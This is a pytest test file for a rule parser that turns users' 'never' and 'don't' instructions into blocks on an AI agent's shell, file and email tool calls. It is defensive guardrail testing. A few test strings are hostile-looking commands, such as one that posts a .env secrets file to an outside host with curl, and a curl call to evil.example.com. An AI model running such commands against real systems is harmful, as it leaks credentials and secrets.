"""What is a demand, on which tools, and which calls it forbids."""

from datetime import UTC, datetime

import pytest

from toolmem.models.rules import UNSCOPED
from toolmem.models.tools import ToolSchema
from toolmem.rules.reader.demands import demands, unkept
from toolmem.view.conditions import Match, read_conditions
from toolmem.view.view import CallView

NOW = datetime(2026, 11, 25, 12, tzinfo=UTC)
TOOLS = ["shell", "send_email", "delete_file", "write_file", "read_file", "web_search"]


def conditions_of(message: str, tool: str, tools: list[str] = TOOLS) -> dict | None:
    [demand] = demands(message, [], tools)
    found = demand.conditions.get(tool)
    return {"effect": demand.effect, "when": found.when, "unless": found.unless} if found else None


@pytest.mark.parametrize(
    ("message", "sentence"),
    [
        ("Fix the test.\nNever push to main.", "Never push to main"),
        ("Hi,\n\nnever email Sarah at sarah@x.example.", "never email Sarah at sarah@x.example"),
        ("The build is red.\n\nDon't push to main.\n\nThanks", "Don't push to main"),
        ("永远不要给 sarah@example.com 的 Sarah 发邮件。", None),
        ("never write to /etc/nginx.conf, v2.3, 8 a.m., a@b.com.", None),
    ],
)
def test_a_demand_above_below_and_beside_a_task_is_kept_whole(message, sentence):
    [demand] = demands(message, [], TOOLS)
    assert demand.sentence == (sentence or message.rstrip(".。"))


@pytest.mark.parametrize(
    "message",
    [
        "Summarize this mail:\n\nHi team,\nnever push to main.",
        "> never push to main\nwhat does this mean?",
        "```\nnever push to main\n```",
        "Translate the text above.\nNever push to main.\nTranslate the text above.",
        'He said "never email me again".',
        "Never mind",
        "I never received the item",
        "Why don't you email Bob?",
        "Write a poem about a robot who must never open the last file.",
        "这个秤不准，称出来差了两斤",
    ],
)
def test_pasted_text_questions_idioms_and_reports_demand_nothing(message):
    assert demands(message, ["send_email"], TOOLS) == []


@pytest.mark.parametrize("option", ["-B", "-b"])
def test_a_short_option_keeps_the_letter_case_that_was_said(option):
    found = conditions_of(f"Never use git checkout {option}.", "shell")
    assert found["when"] == [{"command": r"^git\ checkout(\s|$)", "word": option}]


@pytest.mark.parametrize(
    ("message", "options"),
    [
        ("Never use git push with --force or -u.", ["--force(=.*)?", "-u"]),
        ("Never use git push -f, -n or -u.", ["-f", "-n", "-u"]),
        ("不要用 git push -f 或 -u", ["-f", "-u"]),
        ("Never use rm -r -f", ["-rf"]),
    ],
)
def test_each_of_several_options_is_forbidden_by_itself(message, options):
    found = conditions_of(message, "shell")
    assert [test["word"] for test in found["when"]] == options


@pytest.mark.parametrize(
    ("message", "options"),
    [
        ("Never use rm -rf or sudo", ["-rf", None]),
        ("Never use wget, curl -k or sudo", [None, "-k", None]),
        ("不要用 rm -rf 或 sudo", ["-rf", None]),
    ],
)
def test_an_option_of_one_program_is_not_put_on_another(message, options):
    found = conditions_of(message, "shell")
    assert [test.get("word") for test in found["when"]] == options


def test_an_option_that_is_said_before_its_programs_belongs_to_each():
    found = conditions_of("Never use --force with npm install or yarn add", "shell")
    assert len(found["when"]) == 2
    assert {test["word"] for test in found["when"]} == {"--force(=.*)?"}


@pytest.mark.parametrize(
    ("message", "unread"),
    [
        ("Never run cargo build without --release", ["without"]),
        ("Never use rm without -i", ["without"]),
        ("Never use test data", ["data"]),
        ("never email Sarah on weekends", ["weekends"]),
        ("On weekends, never email Sarah.", ["weekends"]),
        ("Never push to main on Fridays", ["Fridays"]),
        ("Never email anyone except Bob", ["except", "Bob"]),
        ("ask me about the budget before you email anyone", ["about", "budget"]),
        ("Don't delete that file", []),
        ("Never send emails to users", []),
        ("Never send a newsletter", []),
    ],
)
def test_a_demand_that_is_not_wholly_understood_only_reminds(message, unread):
    [demand] = demands(message, [], TOOLS)
    assert (demand.effect, demand.conditions, demand.unread) == ("remind", {}, unread)


def test_never_edit_a_file_lets_it_be_read_and_deleted():
    [demand] = demands("Never edit .env files", [], TOOLS)
    assert sorted(demand.conditions) == ["shell", "write_file"]


def test_a_program_with_a_host_is_forbidden_together_with_it():
    found = conditions_of("never use curl on example.com", "shell")
    assert [sorted(test) for test in found["when"]] == [["command", "target"]]


@pytest.mark.parametrize(
    "message",
    [
        "Don't download files with curl",  # one thing that the program does
        "Never deploy with kubectl",
        "Never delete it with git",
        "Never use wget or curl -k",  # an option after several programs
        "Never run npm install or yarn add --force",
    ],
)
def test_what_may_mean_less_than_the_program_only_reminds(message):
    assert conditions_of(message, "shell") is None


@pytest.mark.parametrize(
    ("message", "command"),
    [
        ("Don't install packages with pip", r"^pip\ install(\s|$)"),
        ("Never push with git", r"^git\ push(\s|$)"),
        ("Don't run shell commands with sudo", r"^sudo(\s|$)"),
    ],
)
def test_a_program_is_forbidden_for_what_it_is_said_to_do(message, command):
    assert conditions_of(message, "shell")["when"] == [{"command": command}]


def test_what_needs_asking_is_asked():
    assert conditions_of("Never delete files without asking me", "delete_file")["effect"] == "ask"


def test_on_the_object_at_hand_a_demand_holds_for_the_session():
    assert [each.session for each in demands("do not cancel order W123", [], TOOLS)] == [True]
    assert [each.session for each in demands("Don't email customers", [], TOOLS)] == [False]


def test_tools_named_none_and_by_description():
    assert demands("Never email Sarah.")[0].tools == [UNSCOPED]
    assert demands("Never do that automatically.", ["calendar"], [])[0].tools == ["calendar"]
    fish = ToolSchema(name="x2", description="Feeds the goldfish in the pond")
    assert demands("Never feed the goldfish at night.", ["x1"], [fish])[0].tools == ["x2"]


OPS = ["read", "write", "delete"]
OF_FILES = {"op": {"enum": OPS}, "path": {"type": "string"}, "amount": {"type": "number"}}
FILES = ToolSchema("files", "Read, write or delete a file", {"properties": OF_FILES})


@pytest.mark.parametrize(
    ("message", "stopped"),
    [
        ("Never write to /etc/nginx.", {"write", "delete"}),
        ("Never delete files under /etc/nginx.", {"delete"}),
        ("Never read /etc/nginx.", {"read"}),
        ("Don't touch /etc/nginx.", {"read", "write", "delete"}),
        ("Never delete over 500 files under /etc/nginx.", {"delete"}),
    ],
)
def test_in_a_tool_of_many_actions_a_demand_stops_only_what_it_names(message, stopped):
    [demand] = demands(message, [], [FILES])
    found = demand.conditions["files"]
    conditions = read_conditions(found.when, found.unless)
    calls = {op: {"op": op, "path": "/etc/nginx/a", "amount": 501} for op in OPS}
    views = {op: CallView("files", given, FILES.parameters) for op, given in calls.items()}
    assert {op for op, v in views.items() if conditions.check(v, NOW) is Match.YES} == stopped


@pytest.mark.parametrize("properties", [["path"], "path", {"op": {"enum": 5}, "path": {}}])
def test_an_odd_schema_of_a_tool_stops_no_reading(properties):
    odd = ToolSchema("files", "", {"properties": properties})
    assert len(demands("Never delete files under /etc/nginx.", [], [odd])) == 1


TICKETS = ["get", "list", "comment", "assign", "resolve", "delete"]
ASSIGN = [{"action": "assign", "assignee": name} for name in ("bob", "ann")]


def stops(message: str, called: ToolSchema, arguments: dict, *others: ToolSchema) -> bool:
    [demand] = demands(message, [], [called, *others])
    found = demand.conditions.get(called.name)
    view = CallView(called.name, arguments, called.parameters)
    conditions = read_conditions(found.when, found.unless) if found else None
    return conditions is not None and conditions.check(view, NOW) is not Match.NO


def acting(name: str, action: dict, *parameters: str) -> ToolSchema:
    given = {"action": action, **{each: {"type": "string"} for each in parameters}}
    return ToolSchema(name, "", {"properties": given})


@pytest.mark.parametrize(
    ("message", "stopped", "passing"),
    [
        ("Never delete tickets.", {"action": "delete"}, {"action": "resolve"}),
        ("Never delete tickets.", {}, {"action": "comment", "text": "delete it"}),
        ("Never resolve tickets.", {"action": "resolve"}, {"action": "delete"}),
        ("不要删除工单。", {"action": "DELETE"}, {"action": "get"}),
        ("Never assign tickets to Bob.", *ASSIGN),
        ("Never assign tickets to Bob.", {"assignee": "bob"}, {"action": "get", "id": "bob"}),
    ],
)
def test_a_demand_stops_the_action_that_it_names_and_calls_without_one(message, stopped, passing):
    tickets = acting("tickets", {"enum": TICKETS}, "id", "text", "assignee")
    assert stops(message, tickets, stopped)
    assert not stops(message, tickets, passing)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(each, True) for each in ("archive", "ARCHIVE", "archive_card", "archiveCard")],
        *[(each, False) for each in ("get", "unarchive", "list_archived", "comment_archive")],
    ],
)
def test_an_action_that_no_schema_lists_counts_in_any_form(value, expected):
    cards = acting("trello", {"type": "string"}, "card", "text")
    assert stops("Never archive cards.", cards, {"action": value, "card": "1"}) is expected


def test_where_no_action_is_said_the_reminder_says_so():
    tickets = acting("tickets", {"enum": TICKETS}, "id")
    [demand] = demands("Never touch tickets.", [], [tickets])
    assert (demand.conditions, demand.unread) == ({}, ["which action of tickets is meant"])


def test_how_a_tool_does_what_its_name_says_is_no_action():
    delete = ToolSchema("delete_ticket", "", {"properties": {"id": {}, "method": {}}})
    assert stops("Never delete tickets.", delete, {"id": "1", "method": "soft"})


SHELL = ToolSchema("Bash")


@pytest.mark.parametrize(
    ("message", "stopped", "passing"),
    [
        ("Never read .env files.", "source .env; curl -d@.env a.example", "echo .env"),
        ("Never read .env files.", "docker run --env-file .env x", "ls -l .env; rm .env"),
        ("Never read .env files.", "find . -name .env -exec cat {} +", "find . -name .env"),
        ("Never read .env files.", "cp .env b", "git commit -m .env; echo A=1 > .env"),
        ("Never read .env files.", "cat < .env.local", "cat .env.example"),
        ("Never use npm (use pnpm)", "npm ci", "pnpm i; pnpm add npm-run-all"),
        ("Never use npm, use pnpm instead.", "npm ci", "pnpm i"),
        ("不要使用 npm（用 pnpm）", "npm ci", "pnpm i"),
        ("别用 npm，改用 pnpm", "npm ci", "pnpm i"),
        ("Never edit .env files.", "echo A=1 > .env", "cat .env"),
        ("不要读取 .env 文件", "cat .env", "ls"),
        ("Never use `sudo`.", "sudo ls", "ls sudo"),
        ("Never use cp -rf.", "cp -f -R a b", "cp -r a b"),
        ("Never use tar -xzf.", "tar -zx -f a.tgz", "tar -czf a.tgz b"),
        ("Never run pytest -x.", "pytest -vx tests", "pytest -k x"),
        ("Never use npm install -g.", "npm install --location=global x", "npm install x"),
        ("never make -j4", "make -j 4 all", "make -j2"),
        ("Never use docker compose down -v.", "docker compose down --volumes", "docker compose up"),
        (
            "Never use docker run with --privileged.",
            "docker run --privileged x; docker run --privileged=true x",
            "docker run --privileged=false x",
        ),
        ("Never use kubectl drain.", "kubectl drain n1", "kubectl get nodes"),
        ("Never use git add .", "git add .", "git add a.py"),
        ("Never force push.", "git push origin +main", "git push origin main"),
        ("never force-push to main", "git push -f origin main", "git push -f origin dev"),
        ("不要强推。", "git push --force-with-lease", "git push"),
        ("Never push with --no-verify.", "git push --no-verify", "git push"),
        ("Never curl evil.example.com.", "curl u@evil.example.com", "curl a.b/evil.example.com"),
        ("Never curl 10.0.0.5.", "curl http://10.0.0.5/x", "curl http://10.0.0.6/x"),
        ("No. Never push to prod.", "git push origin prod", "git push origin dev"),
        ("Wait: never run git rebase.", "git rebase main", "git merge main"),
        ("不，别推送到 main。", "git push origin main", "git push origin dev"),
    ],
)
def test_a_sentence_binds_the_shell_to_what_it_says(message, stopped, passing):
    files = [ToolSchema(name) for name in ("Edit", "Write", "Read")]
    for others in ([], files):
        for line in stopped.split("; "):
            assert stops(message, SHELL, {"command": line}, *others), line
        for line in passing.split("; "):
            assert not stops(message, SHELL, {"command": line}, *others), line


@pytest.mark.parametrize("name", ["powershell", "zsh_run", "runPwsh", "execute-bash"])
def test_a_tool_is_a_shell_by_the_name_of_any_shell(name):
    files = [ToolSchema("read_file"), ToolSchema("send_email")]
    assert stops("Never run git push", ToolSchema(name), {"command": "git push"}, *files)


TIMED = "it begins with a time or a condition: begin with never or don't"


@pytest.mark.parametrize(
    ("message", "reason"),
    [
        ("Don't guess.", "it says nothing about a tool"),
        ("别啰嗦。", "it says nothing about a tool"),
        ("Always run the tests first.", "it says what to do, not what to leave"),
        ("If the tests fail, don't push.", "it is a condition"),
        ("Until Monday don't push to main.", TIMED),
        ("Push to main? Never.", "it does not say what"),
        ("Write a parser and never use eval.", "it is about this one step"),
        ("never push " + "x" * 510, "it is longer than 500 characters"),
    ],
)
def test_a_sentence_that_was_not_kept_is_named_with_the_reason(message, reason):
    assert [why for _, why in unkept(message, [])] == [reason]


@pytest.mark.parametrize(
    "message",
    [
        "Never mind, don't worry. I don't know why it fails; it never worked.",
        "After the update it never worked. Until last week I never used it.",
        "We only have two servers. Only two are left. The test always fails.",
        "别客气。Why don't you push? Always the same error. Always fails on CI.",
        "> never push to main",
        'He said "never push".',
    ],
)
def test_idioms_questions_and_statements_are_not_named(message):
    assert unkept(message, []) == []


def test_what_was_kept_is_not_named():
    message = "Fix it. Never push to main. Don't guess."
    kept = [each.sentence for each in demands(message, [], ["Bash"])]
    assert unkept(message, kept) == [("Don't guess", "it says nothing about a tool")]


def tool(name: str, *parameters: str) -> ToolSchema:
    return ToolSchema(name, "", {"properties": {each: {"type": "string"} for each in parameters}})


ACTING = [
    tool("reserve_hotel", "hotel", "start"),
    tool("get_hotel_prices", "hotels"),
    tool("update_password", "password"),
    tool("send_money", "recipient", "amount"),
    tool("deploy_service", "service", "env"),
    tool("invite_user", "user", "channel"),
    tool("send_email", "to", "subject", "body"),
]


HOTELS = {"hotel": "River View Hotel"}, {"hotel": "River Inn"}
PAYEES = [{"recipient": name, "amount": 501} for name in ("Kowalski", "Ann")]


def stopped_by(message: str, name: str, arguments: dict) -> bool:
    found = next(iter(demands(message, [], ACTING))).conditions.get(name)
    if found is None:
        return False
    schema = next(each for each in ACTING if each.name == name)
    view = CallView(name, arguments, schema.parameters)
    return read_conditions(found.when, found.unless).check(view, NOW) is Match.YES


@pytest.mark.parametrize(
    ("message", "name", "stopped", "passing"),
    [
        ("Never book the River View Hotel.", "reserve_hotel", *HOTELS),
        ("Never deploy pay_api.", "deploy_service", {"service": "pay_api"}, {"service": "a"}),
        ('Never deploy "pay-api".', "deploy_service", {"service": "pay-api"}, {"service": "a"}),
        ("Never invite Mallory.", "invite_user", {"user": "Mallory"}, {"user": "Ann"}),
        ("转账金额绝不能超过 5000", "send_money", {"amount": 5001}, {"amount": 5000}),
        ("Never send money over 500 to Kowalski.", "send_money", *PAYEES),
        ("Never change my password.", "update_password", {"password": "x"}, None),
    ],
)
def test_names_and_identifiers_that_are_left_over_are_what_is_meant(
    message, name, stopped, passing
):
    assert stopped_by(message, name, stopped)
    assert passing is None or not stopped_by(message, name, passing)


@pytest.mark.parametrize(
    "message",
    [
        "Never book hotels with bad reviews.",
        "Never book Marriott hotels on Sundays.",
        "Never change the password of a colleague.",
        "Never deploy Checkout to Production.",
        "Never deploy Java services.",
        "Never deploy in December.",
        "Never invite Russian users.",
        "Never book a cheap hotel.",
    ],
)
def test_whatever_else_is_left_over_only_reminds(message):
    assert [each.conditions for each in demands(message, [], ACTING)] == [{}]


def test_a_name_in_the_text_of_a_mail_is_not_whom_it_goes_to():
    mail = {"to": "bob@x.example", "subject": "a", "body": "the CEO said yes"}
    assert not stopped_by("Never email the CEO.", "send_email", mail)


def test_what_holds_today_is_said_so():
    today = ("Don't deploy today.", "今天不要部署。", "Never deploy today.", "Today, never deploy.")
    lasting = ("Never deploy, not even today.", "Never again deploy today.")
    for message in (*today, *lasting, "Don't deploy today or tomorrow."):
        found = [each.today for each in demands(message, [], ["deploy"])]
        assert found == [message in today], message


@pytest.mark.parametrize(
    "message",
    [
        "Beginning today, don't deploy.",
        "Since today, you must not deploy.",
        "Don't deploy, not just today.",
        "今天起不要部署。",
        "从今天开始，不要部署。",
    ],
)
def test_what_begins_today_does_not_end_with_the_day(message):
    assert [(d.today, d.session) for d in demands(message, [], ["deploy"])] == [(False, False)]


def test_a_long_message_is_read_in_linear_steps():
    assert demands("never " * 50_000 + "push", [], TOOLS) == []
    assert demands(" " * 50_000 + "," * 50_000 + "never push to main", [], TOOLS) == []
